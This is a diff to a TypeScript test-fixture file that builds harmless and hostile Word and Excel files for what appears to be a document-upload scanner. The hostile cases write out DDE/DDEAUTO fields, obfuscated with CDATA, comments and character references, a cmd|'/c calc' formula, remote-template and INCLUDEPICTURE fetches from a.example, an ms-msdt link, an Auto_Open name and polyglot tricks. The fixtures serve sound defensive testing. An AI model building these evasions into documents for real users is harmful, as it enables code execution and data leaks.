@@ -17,6 +17,27 @@ const joined = (...parts: (Uint8Array | string)[]): Uint8Array =>
 
 export const pdf = (catalog = '', extra: string[] = []): Uint8Array => writePdf([PAGE], { catalog, extra })
 export const docx = (more: ZipPart[] = []): Uint8Array => writeDocx([WORDS], more)
+/** A Word document with a part of fields: what stands in its runs. */
+const fields = (...runs: string[]): Uint8Array =>
+  docx([{ name: 'word/footer1.xml', content: `<w:ftr xmlns:w="x"><w:p>${runs.join('')}</w:p></w:ftr>` }])
+const field = (state: 'begin' | 'separate' | 'end'): string =>
+  `<w:r><w:fldChar w:fldCharType="${state}"/></w:r>`
+const instruction = (words: string): string => `<w:r><w:instrText>${words}</w:instrText></w:r>`
+const aField = (words: string): string =>
+  `${field('begin')}${instruction(words)}${field('separate')}<w:r><w:t>1</w:t></w:r>${field('end')}`
+/** A workbook with a formula in its only cell. */
+const formula = (words: string, more = ''): Uint8Array =>
+  xlsx([
+    {
+      name: 'xl/worksheets/sheet1.xml',
+      content: `<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1"><f>${words}</f><v>1</v></c></row></sheetData>${more}</worksheet>`,
+    },
+  ])
+/** What a package says of its parts, with more said. */
+const saying = (...tags: string[]): ZipPart => ({
+  name: '[Content_Types].xml',
+  content: `<?xml version="1.0"?><Types xmlns="${PACKAGE}/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>${tags.join('')}</Types>`,
+})
 
 /** A workbook of one cell. `more` are parts that replace those of the same name, or come along. */
 function xlsx(more: ZipPart[] = [], mainType = `${SPREADSHEET}.sheet.main+xml`): Uint8Array {
@@ -212,6 +233,39 @@ export const WELCOME: Record<string, Named & { type: string }> = {
         { name: 'word/embeddings/Microsoft_Excel_Sheet1.xlsx', content: xlsx() },
       ]),
     type: 'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
+  },
+  'a Word document with the fields that documents have': {
+    name: 'a.docx',
+    bytes: () =>
+      fields(
+        aField(' PAGE \\* MERGEFORMAT '),
+        aField('TOC \\o &quot;1-3&quot; \\h'),
+        aField(' HYPERLINK &quot;https://www.esf.se/link&quot; \\o &quot;Import&quot; '),
+        aField('MERGEFIELD Addendum'),
+        '<w:fldSimple w:instr=" REF _Ref1 \\h "/><w:p><w:r><w:t>DDEAUTO och INCLUDETEXT är ord.</w:t></w:r></w:p>',
+      ),
+    type: 'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
+  },
+  'a workbook with the formulas that workbooks have': {
+    name: 'a.xlsx',
+    bytes: () =>
+      formula(
+        `HYPERLINK("https://www.esf.se","a|b!")&amp;SUM('Blad 1|x'!A1:B2)+Tabell[[#This Row],[Antal]]+RECALL(1)`,
+        '<legacyDrawing xmlns:r="x" r:id="r9"/>',
+      ),
+    type: 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
+  },
+  'a workbook with a button, drawn as Excel does': {
+    name: 'a.xlsx',
+    bytes: () =>
+      xlsx([
+        {
+          name: 'xl/drawings/vmlDrawing1.vml',
+          content:
+            '<xml xmlns:v="urn:schemas-microsoft-com:vml"><v:shape><v:textbox><div>Räkna<br>om</div></v:textbox></v:shape></xml>',
+        },
+      ]),
+    type: 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
   },
   'a workbook': {
     name: 'a.xlsx',
@@ -595,6 +649,215 @@ export const UNWELCOME: Record<string, Named & { code: string }> = {
     name: 'a.xlsx',
     bytes: () => xlsx([{ name: 'xl/externalLinks/externalLink1.xml', content: '<externalLink/>' }]),
     code: 'reachesOut',
+  },
+  'a Word document that asks another program right behind another field': {
+    name: 'a.docx',
+    bytes: () => fields(aField('PAGE'), aField('DDEAUTO c:\\x')),
+    code: 'reachesOut',
+  },
+  'a Word document that asks another program in pieces': {
+    name: 'a.docx',
+    bytes: () =>
+      fields(
+        field('begin'),
+        '<w:r><w:instrText a=">">D<![CDATA[D]]></w:instrText></w:r>',
+        '<w:r><w:instrText><!-- x -->E<?x y?>AU&#84;O c:\\x</w:instrText></w:r>',
+        field('end'),
+      ),
+    code: 'reachesOut',
+  },
+  'a Word document that asks another program in a simple field': {
+    name: 'a.docx',
+    bytes: () => fields('<w:fldSimple w:x=">" w:instr="&#68;DE c:\\x y"/>'),
+    code: 'reachesOut',
+  },
+  'a Word document that fetches a picture': {
+    name: 'a.docx',
+    bytes: () => fields(aField(' INCLUDEPICTURE "http://a.example/a.png" \\d ')),
+    code: 'reachesOut',
+  },
+  'a Word document that fetches a text': {
+    name: 'a.docx',
+    bytes: () => fields(aField('includetext "\\\\a.example\\a"')),
+    code: 'reachesOut',
+  },
+  'a Word document with a piece of a workbook that lies elsewhere': {
+    name: 'a.docx',
+    bytes: () => fields(aField(' LINK Excel.Sheet.12 "C:\\a.xlsx" ')),
+    code: 'reachesOut',
+  },
+  'a Word document with a field that is a link to a program': {
+    name: 'a.docx',
+    bytes: () => fields(aField(' HYPERLINK \\h "ms-msdt:/id" ')),
+    code: 'reachesOut',
+  },
+  'a Word document whose template lies elsewhere, behind a sign that ends tags': {
+    name: 'a.docx',
+    bytes: () =>
+      docx([
+        relationships(
+          `<Relationship Id="x" a=">" Type="${OFFICE}/attachedTemplate" Target="http://a.example/a" TargetMode="External"/>`,
+        ),
+      ]),
+    code: 'reachesOut',
+  },
+  'a Word document that says that what lies elsewhere lies in it': {
+    name: 'a.docx',
+    bytes: () => docx([relationships(external('image', 'http://a.example/a.png', 'Internal'))]),
+    code: 'reachesOut',
+  },
+  'a Word document with a page of another': {
+    name: 'a.docx',
+    bytes: () => docx([relationships(external('frame', 'http://a.example/'))]),
+    code: 'reachesOut',
+  },
+  'a Word document that fetches by what says that it is a link': {
+    name: 'a.docx',
+    bytes: () =>
+      docx([
+        relationships(external('hyperlink', 'http://a.example/a.dotm').replace('"x"', '"r9"')),
+        {
+          name: 'word/settings.xml',
+          content: '<w:settings xmlns:w="x" xmlns:r="y"><w:attachedTemplate r:id="r9"/></w:settings>',
+        },
+      ]),
+    code: 'reachesOut',
+  },
+  'a Word document with a picture that names its place itself': {
+    name: 'a.docx',
+    bytes: () => fields('<v:imagedata xmlns:v="x" src="\\\\a.example\\a.png"/>'),
+    code: 'reachesOut',
+  },
+  'a Word document with another in it, written in numbers': {
+    name: 'a.docx',
+    bytes: () =>
+      docx([
+        relationships(`<Relationship Id="x" Type="${OFFICE}/aF&#67;hunk" Target="a.xml"/>`),
+        { name: 'word/a.xml', content: '<x/>' },
+      ]),
+    code: 'embedded',
+  },
+  'a Word document whose picture is said to be macros': {
+    name: 'a.docx',
+    bytes: () =>
+      docx([
+        saying(
+          '<Override a=">" PartName="/word/media/a.png" ContentType="application/vnd.ms-office.vbaProject"/>',
+        ),
+        { name: 'word/media/a.png', content: 'x' },
+      ]),
+    code: 'macros',
+  },
+  'a Word document whose picture is said to be an object': {
+    name: 'a.docx',
+    bytes: () =>
+      docx([
+        saying(
+          '<Override PartName="/WORD/media/%61.png" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/>',
+        ),
+        { name: 'word/media/a.png', content: 'x' },
+      ]),
+    code: 'embedded',
+  },
+  'a Word document with fields in what is called a picture': {
+    name: 'a.docx',
+    bytes: () =>
+      docx([
+        saying(
+          '<Override PartName="/word/media/a.png" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.footer+xml"/>',
+        ),
+        { name: 'word/media/a.png', content: `<w:ftr xmlns:w="x">${aField('DDEAUTO c:\\x')}</w:ftr>` },
+      ]),
+    code: 'embedded',
+  },
+  'a Word document that is led to as something else': {
+    name: 'a.docx',
+    bytes: () =>
+      docx([
+        {
+          name: '_rels/.rels',
+          content: `<Relationships xmlns="${PACKAGE}/relationships"><Relationship Id="r1" Type="${OFFICE}/officeDocument" Target="ppt/a.xml"/></Relationships>`,
+        },
+        { name: 'ppt/a.xml', content: '<x/>' },
+      ]),
+    code: 'otherFormat',
+  },
+  'a Word document of which a part is there twice': {
+    name: 'a.docx',
+    bytes: () =>
+      docx([
+        { name: 'word/a.xml', content: '<x/>' },
+        { name: 'word/A.xml', content: '<x/>' },
+      ]),
+    code: 'broken',
+  },
+  'a Word document of which a part has two names': {
+    name: 'a.docx',
+    bytes: () => docx([{ name: 'word/a.xml', localName: 'word/b.xml', content: '<x/>' }]),
+    code: 'broken',
+  },
+  'a Word document with a program between its parts': {
+    name: 'a.docx',
+    bytes: () => docx([{ name: 'word/a.xml', content: '<x/>', before: bytesOf('MZ program') }]),
+    code: 'polyglot',
+  },
+  'a Word document with a web page behind its end': {
+    name: 'a.docx',
+    bytes: () => writeZip([{ name: 'word/a.xml', content: '<x/>' }], '<script>alert(1)</script>'),
+    code: 'polyglot',
+  },
+  'a Word document that says UTF-8 and then something else': {
+    name: 'a.docx',
+    bytes: () =>
+      docx([
+        {
+          name: 'word/a.xml',
+          content: `<?xml version="1.0" ${' '.repeat(300)} encoding="UTF-7"?><x>+ADw-</x>`,
+        },
+      ]),
+    code: 'broken',
+  },
+  'a workbook that asks another program': {
+    name: 'a.xlsx',
+    bytes: () => formula("cmd|'/c calc'!A0"),
+    code: 'reachesOut',
+  },
+  'a workbook that asks the network': {
+    name: 'a.xlsx',
+    bytes: () => formula('1+_xlfn.WEB<!-- x -->SERVICE("http://a.example/"&amp;A1)'),
+    code: 'reachesOut',
+  },
+  'a workbook that asks another workbook': {
+    name: 'a.xlsx',
+    bytes: () => formula("'\\\\a.example\\[a.xlsx]Blad1'!A1"),
+    code: 'reachesOut',
+  },
+  'a workbook that asks the network in a name': {
+    name: 'a.xlsx',
+    bytes: () =>
+      formula('A2', '<definedNames><definedName name="a">RTD("a",,"b")</definedName></definedNames>'),
+    code: 'reachesOut',
+  },
+  'a workbook with a macro in a name': {
+    name: 'a.xlsx',
+    bytes: () => formula('A2', '<definedName name="_xlnm.Auto_Open">Blad1!A1</definedName>'),
+    code: 'macros',
+  },
+  'a workbook with an object that lies elsewhere': {
+    name: 'a.xlsx',
+    bytes: () => formula('A2', '<oleObjects><oleObject progId="x" link="[1]!a"/></oleObjects>'),
+    code: 'reachesOut',
+  },
+  'a workbook with a drawing that has a script': {
+    name: 'a.xlsx',
+    bytes: () =>
+      xlsx([
+        {
+          name: 'xl/media/a.svg',
+          content: '<svg xmlns="http://www.w3.org/2000/svg"><script>1</script></svg>',
+        },
+      ]),
+    code: 'macros',
   },
   'a Word document with an object in it': {
     name: 'a.docx',
